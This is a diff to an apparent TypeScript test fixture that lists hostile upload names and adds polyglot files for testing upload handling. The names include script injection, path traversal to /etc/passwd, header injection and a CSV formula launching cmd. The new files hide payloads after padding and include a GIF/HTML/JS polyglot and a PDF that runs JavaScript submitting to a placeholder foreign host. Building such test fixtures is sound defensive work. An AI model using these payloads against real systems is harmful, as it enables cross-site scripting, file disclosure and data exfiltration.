@@ -40,3 +40,11 @@ export const FILE_PAYLOADS: readonly (readonly [name: string, content: string])[
 export const NAME_PAYLOADS: readonly string[] = [
   `"><img src=x onerror=${A}>.txt`, `<script>${A}</script>.txt`, `a"; filename="b.html`, "a\r\nContent-Type: text/html\r\n\r\n<script>.txt", "a\nSet-Cookie: x=y.txt", `../../../etc/passwd`, `..\\..\\x.txt`, `a%0d%0aX: y.txt`, `'';!--"<X>=&{()}.txt`, "cod\u202egpj.exe", "a\u0000.html", "javascript:alert(1)", "=cmd|' /C calc'!A0.csv", "a;b=c.txt", "а\u200bб.txt", "CON.txt", `${"x".repeat(3000)}.html`,
 ];
+
+/** Nobody sees at their beginning what these hold, so they are taken as the text, picture or PDF that they say they are; what is hostile comes later. */
+export const SHOWN_PAYLOADS: readonly (readonly [name: string, content: string])[] = [
+  ...["txt", "md", "csv", "json", "xml"].map((extension) => [`later.${extension}`, `${"Notes of the meeting. ".repeat(200)}\n${[...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS, ...FILE_PAYLOADS.map(([, content]) => content)].join("\n").replaceAll("\0", "")}`] as const),
+  ["namespace.xml", `<?xml version="1.0"?><note>${"word ".repeat(900)}<x:script xmlns:x="http://www.w3.org/1999/xhtml">${A}</x:script></note>`],
+  ["both.gif", `GIF89a/*\x01\0\x01\0\0\0\0;<html><body onload="${A}"><script>${A}</script>*/=1;${A}`],
+  ["opens.pdf", `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${FOREIGN}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(${FOREIGN}/a)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF<script>${A}</script>`],
+];
